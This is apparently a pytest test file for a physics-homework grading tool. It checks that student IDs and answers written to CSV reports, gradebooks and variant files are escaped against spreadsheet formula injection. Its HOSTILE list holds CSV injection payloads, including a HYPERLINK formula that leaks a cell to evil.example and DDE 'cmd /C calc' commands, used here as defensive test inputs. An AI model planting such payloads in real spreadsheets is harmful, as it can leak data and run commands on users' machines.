"""Grading a TA can trust (issue 27): CSV injection, silent key mix-ups, hostile files.

Keys by hand: Hibbeler 12e Example 17.11 (drum and block), alpha = 78.48/6.95 = 11.292
rad/s^2, T = 3.75(11.292)/0.4 = 105.86 N, a = 0.4(11.292) = 4.5168 m/s^2 (equation mode:
all positive).
"""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from typer.testing import CliRunner

from dynsolve.cli import app
from dynsolve.grade.variants import VariantRow, read_roster, read_variants, write_variants
from dynsolve.safe_csv import TRIGGERS, csv_text, escape_cell

ROOT = Path(__file__).parent.parent
DRUM = ROOT / "problems" / "equations" / "fa_hib_drum.dyn"
runner = CliRunner()

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=1+1",
    "-2+3+cmd|' /C calc'!A0",
    "\t=2+2",
]


def _csv(rows: list[list[str]]) -> str:
    buffer = io.StringIO()
    csv.writer(buffer, lineterminator="\n").writerows(rows)
    return buffer.getvalue()


def _dangerous(cell: str) -> bool:
    """A cell a spreadsheet would take for a formula: a trigger first, not a plain number."""
    stripped = cell.lstrip(" ")
    return bool(stripped) and stripped[0] in TRIGGERS and escape_cell(stripped) != stripped


def test_escape_keeps_numbers_and_quotes_formulas() -> None:
    assert escape_cell("-4.52") == "-4.52"  # a negative number stays a number
    assert escape_cell("+1.5e-3") == "+1.5e-3"
    assert escape_cell("-cmd|' /C calc'!A0") == "'-cmd|' /C calc'!A0"
    assert escape_cell("-4.52 m/s^2") == "'-4.52 m/s^2"  # not a plain number: text
    assert escape_cell("=1+1") == "'=1+1"
    assert escape_cell("\r=1+1") == "'\r=1+1"
    # quotes inside a cell are doubled by the csv module, and the text reads back whole
    text = csv_text([['=HYPERLINK("x","y")', 'say "hi"']])
    assert text == '"\'=HYPERLINK(""x"",""y"")","say ""hi"""\n'
    assert next(csv.reader(io.StringIO(text))) == ['\'=HYPERLINK("x","y")', 'say "hi"']


def test_reports_never_hold_a_formula(tmp_path: Path) -> None:
    rows = [["student", "alpha", "T", "a"]]
    for i, hostile in enumerate(HOSTILE):
        rows.append([hostile, hostile, "106 N", "-4.52"])  # a hostile id and a hostile cell
        rows.append([f"s{i}", "11.3 rad/s^2", hostile, "4.52 m/s^2"])
    answers = tmp_path / "answers.csv"
    answers.write_text(_csv(rows))
    report, gradebook = tmp_path / "r.csv", tmp_path / "gb.csv"
    result = runner.invoke(
        app, ["grade", str(DRUM), str(answers), "-o", str(report), "--gradebook", str(gradebook)]
    )
    assert result.exit_code == 0, result.output
    for path in (report, gradebook):
        table = list(csv.reader(io.StringIO(path.read_text())))
        assert not [c for row in table for c in row if _dangerous(c)], path
        ids = [row[0] for row in table[1:]]
        for hostile in HOSTILE:  # each hostile id is there, as text behind one quote
            assert "'" + hostile.strip() in ids
    table = list(csv.DictReader(io.StringIO(report.read_text())))
    by_id = {row["student"]: row for row in table}
    assert by_id["'=1+1"]["alpha answer"] == "'=1+1"
    assert by_id["'=1+1"]["alpha verdict"] == "unreadable"
    assert by_id["'=1+1"]["a answer"] == "-4.52"  # a plain number is not quoted


def test_variants_file_escapes_and_reads_back(tmp_path: Path) -> None:
    path = tmp_path / "v.csv"
    rows = [VariantRow("=1+1", "SI", {"x": "-5 m"}), VariantRow("@SUM(A1)", "SI", {"x": "2 m"})]
    write_variants(path, rows, ("x",))
    text = path.read_text()
    assert "'=1+1,SI,'-5 m" in text and "'@SUM(A1),SI,2 m" in text
    assert read_variants(path) == {"=1+1": {"x": "-5 m"}, "@SUM(A1)": {"x": "2 m"}}
    roster = tmp_path / "roster.csv"
    roster.write_text(text)
    assert read_roster(roster) == ["=1+1", "@SUM(A1)"]


def test_variants_command_escapes_hostile_roster_ids(tmp_path: Path) -> None:
    spec = tmp_path / "p.dyn"
    spec.write_text(
        "given:\n  m = 2 kg\n  F = 10 N\nequations:\n  F = m*a\nfind: a\n"
        "vary:\n  m = 1..3 kg step 1\n"
    )
    roster = tmp_path / "roster.csv"
    roster.write_text(_csv([["student"], ["=1+1"], ["+cmd|' /C calc'!A0"]]))
    out = tmp_path / "variants.csv"
    result = runner.invoke(
        app, ["variants", str(spec), "--roster", str(roster), "--seed", "1", "-o", str(out)]
    )
    assert result.exit_code == 0, result.output
    table = list(csv.reader(io.StringIO(out.read_text())))
    assert not [c for row in table for c in row if _dangerous(c)]
    assert list(read_variants(out)) == ["=1+1", "+cmd|' /C calc'!A0"]


@pytest.mark.parametrize("cell", ["-4.52", "-1e-07", "-inf", "0", "12"])
def test_plain_numbers_are_left_alone(cell: str) -> None:
    assert csv_text([[cell]]) == cell + "\n"
